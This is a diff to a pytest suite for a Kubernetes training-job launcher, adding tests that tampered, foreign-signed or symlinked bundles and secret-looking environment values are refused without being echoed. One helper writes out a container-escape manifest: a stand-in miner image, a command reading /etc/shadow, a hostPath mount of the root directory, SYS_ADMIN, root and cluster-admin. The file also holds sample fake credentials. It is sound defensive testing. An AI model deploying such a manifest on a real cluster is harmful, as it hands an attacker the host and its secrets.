@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import math
+import shutil
 import socket
 import threading
 from pathlib import Path
@@ -13,6 +14,7 @@ from typing import ClassVar
 import pytest
 import yaml
 
+from launcher import bundle_key
 from launcher.backends.kube_api import Backoff
 from launcher.service import OWNER_LABEL, owner_id
 from launcher.state import JobStore
@@ -122,31 +124,126 @@ SECRET = {
     ],
 )
 def test_launch_refuses_manifests_it_did_not_render(
-    edit, message, cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
+    edit, message, cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory, resign
 ):
+    """An edited manifests.yaml fails its sha256; and for whoever holds the key (who can re-sign
+    bundle.json but did not recompute its object digests), each object is checked again."""
     bundle = bundle_factory(tmp_path / "b")
     _rewrite(bundle, edit)
     for flags in ((), ("--dry-run",)):
         r = _launch(cli, bundle, kubeconfig, *flags)
-        assert r.exit_code == 2 and message in r.output and "Traceback" not in r.output
+        assert r.exit_code == 2 and "manifests.yaml was changed since evaplan rendered it" in r.output
+    resign(bundle)
+    for flags in ((), ("--dry-run",)):
+        r = _launch(cli, bundle, kubeconfig, *flags)
+        assert r.exit_code == 2 and message in r.output and "Traceback" not in r.output, r.output
     assert not cluster.requests("POST", "/api") and JobStore().find("eva-test") is None
 
 
-def test_forged_digests_still_cannot_reach_the_host(
-    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
-):
+def _forge(bundle: Path, edit) -> None:
+    """An attacker with write access to the bundle folder only: edit the manifests, then recompute
+    every digest bundle.json holds (object digests and file sha256), as anyone can."""
+    import hashlib
+
     from launcher.manifest_check import object_digest
 
-    bundle = bundle_factory(tmp_path / "b")
-    docs = [d for d in yaml.safe_load_all((bundle / "manifests.yaml").read_text()) if d]
-    docs[2]["spec"]["template"]["spec"]["hostNetwork"] = True
+    docs = edit([d for d in yaml.safe_load_all((bundle / "manifests.yaml").read_text()) if d])
     (bundle / "manifests.yaml").write_text(yaml.safe_dump_all(docs))
     meta = json.loads((bundle / "bundle.json").read_text())
-    meta["object_digests"] = [object_digest(d) for d in docs]  # the attacker recomputes them
+    meta["object_digests"] = [object_digest(d) for d in docs]
+    meta["file_sha256"] = {
+        n: hashlib.sha256((bundle / n).read_bytes()).hexdigest() for n in meta["file_sha256"]
+    }
     (bundle / "bundle.json").write_text(json.dumps(meta))
-    r = _launch(cli, bundle, kubeconfig)
-    assert r.exit_code == 2 and "asks for hostNetwork, which evaplan never renders" in r.output
-    assert not cluster.requests("POST", "/api")
+
+
+def _take_the_host(docs: list[dict]) -> list[dict]:
+    """The issue's attack: another image and command, hostPath / as `nvme`, root with SYS_ADMIN,
+    an admin service account, seccomp Unconfined."""
+    spec = docs[-1]["spec"]["template"]["spec"]
+    c = spec["containers"][0]
+    c["image"], c["command"] = "evil.example/miner:1", ["sh", "-c", "cat /host/etc/shadow"]
+    c["securityContext"] = {"allowPrivilegeEscalation": True, "capabilities": {"add": ["SYS_ADMIN"]}}
+    c["volumeMounts"].append({"name": "nvme", "mountPath": "/host"})
+    spec["volumes"].append({"name": "nvme", "hostPath": {"path": "/"}})
+    spec["securityContext"] = {"runAsUser": 0, "seccompProfile": {"type": "Unconfined"}}
+    spec["serviceAccountName"] = "cluster-admin"
+    return docs
+
+
+def test_a_bundle_edited_with_recomputed_digests_is_refused(
+    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
+):
+    bundle = bundle_factory(tmp_path / "b")
+    _forge(bundle, _take_the_host)
+    for backend in ("kubernetes", "local"):
+        for flags in ((), ("--dry-run",)):
+            args = ("--backend", backend) if backend == "local" else ("--kubeconfig", str(kubeconfig))
+            r = cli("launch", str(bundle), *args, *flags)
+            assert r.exit_code == 2 and "Traceback" not in r.output, r.output
+            assert "not signed with this job store's key" in r.output, r.output
+    assert not cluster.requests("POST", "/api") and JobStore().find("eva-test") is None
+
+
+def test_a_bundle_from_another_job_store_is_refused(
+    cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory, monkeypatch
+):
+    """The key lives in the job store (0600): a bundle signed with another store's key is refused,
+    one signed with this store's key launches."""
+    monkeypatch.setenv("EVAPLAN_STATE_DIR", str(tmp_path / "elsewhere"))
+    foreign = bundle_factory(tmp_path / "foreign")
+    monkeypatch.setenv("EVAPLAN_STATE_DIR", str(state_dir))
+    r = _launch(cli, foreign, kubeconfig)
+    assert r.exit_code == 2 and "not signed with this job store's key" in r.output
+    assert "re-render it" in r.output and not cluster.requests("POST", "/api")
+    key = state_dir / "bundle-key"
+    mine, again = bundle_factory(tmp_path / "mine"), bundle_factory(tmp_path / "again", job_name="eva-two")
+    r = _launch(cli, mine, kubeconfig)
+    assert r.exit_code == 0, r.output
+    assert key.stat().st_mode & 0o777 == 0o600
+    key.chmod(0o644)  # a key others can read proves nothing
+    r = _launch(cli, again, kubeconfig)
+    assert r.exit_code == 2 and "readable by others" in r.output and str(key) in r.output
+
+
+CREDENTIALS = "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE\n"
+
+
+@pytest.mark.parametrize("victim", ["manifests.yaml", "run_config.json", "bundle.json", "ds_config.json"])
+def test_a_bundle_file_that_is_a_symlink_is_refused_without_quoting_it(
+    victim, cli, cluster, gpus, kubeconfig, state_dir, tmp_path, bundle_factory
+):
+    creds = tmp_path / "credentials"
+    creds.write_text(CREDENTIALS)
+    bundle = bundle_factory(tmp_path / "b")
+    (bundle / victim).unlink()
+    (bundle / victim).symlink_to(creds)
+    for backend in ("kubernetes", "local"):
+        args = ("--backend", backend) if backend == "local" else ("--kubeconfig", str(kubeconfig))
+        r = cli("launch", str(bundle), *args)
+        assert r.exit_code == 2 and "Traceback" not in r.output, r.output
+        assert f"{bundle / victim} is a symbolic link" in r.output
+        assert "AKIA" not in r.output and "wJalr" not in r.output and "default" not in r.output
+
+
+@pytest.mark.parametrize(
+    ("victim", "content"),
+    [
+        ("manifests.yaml", CREDENTIALS),
+        ("manifests.yaml", "key: 'wJalrXUtnFEMI/K7MDENG\n  [unclosed: AKIAIOSFODNN7EXAMPLE\n"),
+        ("run_config.json", CREDENTIALS),
+        ("bundle.json", '{"format": 1, "job_name": "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI"}'),
+        ("run_config.json", '{"job_name": "eva-test", "AKIAIOSFODNN7EXAMPLE": "wJalrXUtnFEMI"}'),
+    ],
+)
+def test_no_error_quotes_the_content_of_a_bundle_file(
+    victim, content, cli, state_dir, tmp_path, bundle_factory
+):
+    bundle = bundle_factory(tmp_path / "b")
+    (bundle / victim).write_text(content)
+    r = cli("launch", str(bundle), "--backend", "local", "--dry-run")
+    assert r.exit_code == 2 and "Traceback" not in r.output, r.output
+    assert "AKIA" not in r.output and "wJalr" not in r.output, r.output
 
 
 def test_every_object_and_pod_carries_the_owner_label(
@@ -288,12 +385,19 @@ def test_interrupting_launch_at_every_api_call_loses_nothing(
     from launcher.backends import kube_api
 
     bundle = bundle_factory(tmp_path / "b")
-    monkeypatch.setenv("EVAPLAN_STATE_DIR", str(tmp_path / "count"))
+    key = bundle_key.key_path()  # each fresh job store below shares the key the bundle was signed with
+
+    def fresh_store(name: str) -> None:
+        (tmp_path / name).mkdir()
+        shutil.copy2(key, bundle_key.key_path(tmp_path / name))
+        monkeypatch.setenv("EVAPLAN_STATE_DIR", str(tmp_path / name))
+
+    fresh_store("count")
     total = _count_launch_calls(cli, bundle, kubeconfig, monkeypatch, flags)
     assert total >= 9  # gets, preflight lists, dry runs, (deletes,) creates
     real = kube_api.KubeApi._send
     for k in range(total):
-        monkeypatch.setenv("EVAPLAN_STATE_DIR", str(tmp_path / f"state-{mode}-{len(flags)}-{k}"))
+        fresh_store(f"state-{mode}-{len(flags)}-{k}")
         if flags:
             assert _launch(cli, bundle, kubeconfig).exit_code == 0  # the job it replaces
         seen = [0]
@@ -949,6 +1053,19 @@ def test_stop_on_a_finished_job_says_so(launched, cluster, cli):
         ("DB_PASSWORD=hunter2", "looks like a secret"),
         ("MY_KEY_ID=AKIAIOSFODNN7EXAMPLE", "looks like an AWS access key id"),
         ("DATA=s3://user:pass@host/x", "a URL with a password"),
+        ("S3_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE", "looks like a secret"),
+        ("OPENAI_KEY=sk-proj-4f9Qm2Xr8Lk1Zt7Vb3Nc6Hd0Jw5Ys2Ep", "looks like a secret"),
+        ("WANDB_KEY=3f2a9c1e7b4d8f0a6c5e2b1d9f8a7c6e5d4b3a21", "looks like a secret"),
+        ("PGPASS=hunter2", "looks like a secret"),
+        ("LLM=sk-proj-4f9Qm2Xr8Lk1Zt7Vb3Nc6Hd0Jw5Ys2Ep", "an API secret key"),
+        (
+            "AZ_STORAGE=DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=bm90IGEgcmVhbCBrZXkgYXQgYWxs;",
+            "a connection string with a key",
+        ),
+        ("DB=Server=db.internal;User Id=sa;Password=Tr0ub4dor&3;", "a connection string with a password"),
+        ("OPAQUE=kT9vQ2mZx7LpR4wN8bYc1HsJ6dFgE3aU0", "a random-looking value"),
+        ("BLOB=q8ZrT2xLw9VbN4mKp7HsY1dF6gJc3AeU", "a random-looking value"),
+        ("CERT=-----BEGIN CERTIFICATE-----", "a PEM block"),
     ],
 )
 def test_env_refuses_reserved_names_and_secrets(entry, message, cli, tmp_path):
@@ -958,15 +1075,63 @@ def test_env_refuses_reserved_names_and_secrets(entry, message, cli, tmp_path):
     )  # fmt: skip
     assert r.exit_code == 2 and message in r.output and "Traceback" not in r.output
     assert len(r.output.strip().splitlines()) == 1
-    if "secret" in message or "AWS" in message or "URL" in message:
-        assert "Secret" in r.output and "--s3-secret" in r.output
+    if message != "set by the launcher for each pod":
+        assert "Secret" in r.output and "--s3-secret" in r.output and "--env-not-secret" in r.output
+        value = entry.partition("=")[2]
+        assert value not in r.output and value[:12] not in r.output  # never echoed, not even in part
     assert not (tmp_path / "out").exists()
+
+
+def test_a_malformed_env_entry_is_not_echoed(cli, tmp_path):
+    """`--env VALUE` without a name (a pasted key) is refused without quoting it."""
+    key = "sk-proj-4f9Qm2Xr8Lk1Zt7Vb3Nc6Hd0Jw5Ys2Ep"
+    r = cli(
+        "render", "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1",
+        "--image", "ghcr.io/acme/evaclip:1.0", "--env", "NCCL_DEBUG_SUBSYS=INIT", "--env", key, "--stdout",
+    )  # fmt: skip
+    assert r.exit_code == 2 and "--env entry 2 is not KEY=VALUE" in r.output
+    assert key[:8] not in r.output and len(r.output.strip().splitlines()) == 1
+    r = cli("render", "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1",
+            "--image", "ghcr.io/acme/evaclip:1.0", "--env", f"{key}=1", "--stdout")  # fmt: skip
+    assert r.exit_code == 2 and "an --env name looks like an API secret key" in r.output
+    assert key[:8] not in r.output
+
+
+def test_env_not_secret_overrides_a_false_positive_by_name(cli, tmp_path):
+    base = ("render", "--model", "eva-clip-debug", "--hardware", "h100-sxm", "--nodes", "1",
+            "--image", "ghcr.io/acme/evaclip:1.0", "-o", str(tmp_path / "out"))  # fmt: skip
+    sha = "GIT_SHA=3f2a9c1e7b4d8f0a6c5e2b1d9f8a7c6e5d4b3a21"  # a commit id, random-looking by design
+    assert cli(*base, "--env", sha).exit_code == 2
+    r = cli(*base, "--env", sha, "--env-not-secret", "GIT_SHA")
+    assert r.exit_code == 0, r.output
+    assert "3f2a9c1e7b4d8f0a6c5e2b1d9f8a7c6e5d4b3a21" in (tmp_path / "out" / "manifests.yaml").read_text()
+    # Files that carry --env values are the user's alone; without --env they stay shared (0644).
+    for name in ("manifests.yaml", "bundle.json"):
+        assert (tmp_path / "out" / name).stat().st_mode & 0o777 == 0o600, name
+    assert (tmp_path / "out" / "ds_config.json").stat().st_mode & 0o777 == 0o644
+    r = cli(*base, "--env-not-secret", "OTHER")
+    assert r.exit_code == 2 and "--env-not-secret OTHER names no --env" in r.output
+    r = cli(*base, "--env", "NODE_RANK=0", "--env-not-secret", "NODE_RANK")
+    assert r.exit_code == 2 and "set by the launcher for each pod" in r.output
 
 
 def test_env_keeps_ordinary_settings():
     from launcher.env_policy import check_env_entry
 
-    for name, value in (("TOKENIZERS_PARALLELISM", "false"), ("NCCL_NET_GDR_LEVEL", "PHB"), ("KEYRING", "x")):
+    for name, value in (
+        ("TOKENIZERS_PARALLELISM", "false"),
+        ("NCCL_NET_GDR_LEVEL", "PHB"),
+        ("KEYRING", "x"),
+        ("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True,max_split_size_mb:512"),
+        ("NCCL_IB_HCA", "mlx5_0:1,mlx5_1:1,mlx5_2:1,mlx5_3:1,mlx5_4:1"),
+        ("DATA", "s3://laion-400m-shards/train/{000000..041407}.tar"),
+        ("HF_HOME", "/checkpoints/huggingface-cache/transformers"),
+        ("WANDB_PROJECT", "eva-clip-8b-laion2b-ablation-lr-warmup-2000"),
+        ("WANDB_RUN_GROUP", "eva02_clip_vit_l14_336_laion400m_run17"),
+        ("DB", "postgresql://trainer@db.internal:5432/metrics"),
+        ("PASSES", "3"),
+        ("IMAGE", "ghcr.io/acme/evaclip@sha256:" + "3f2a9c1e7b4d8f0a" * 4),
+    ):
         check_env_entry(name, value)
 
 
@@ -1354,7 +1519,7 @@ def test_a_name_taken_in_the_cluster_gets_a_hint_that_works(
     assert "evaplan stop" not in r.output
     # Another job store's job of that name: neither --replace nor stop could act on it.
     monkeypatch.setenv("EVAPLAN_STATE_DIR", str(tmp_path / "another-store"))
-    r = _launch(cli, bundle, kubeconfig)
+    r = _launch(cli, bundle_factory(tmp_path / "b2"), kubeconfig)  # rendered (signed) by that store
     assert r.exit_code == 2 and "was not created by this job store" in r.output, r.output
     assert "--replace" not in r.output and "evaplan stop" not in r.output
     monkeypatch.setenv("EVAPLAN_STATE_DIR", str(state_dir))
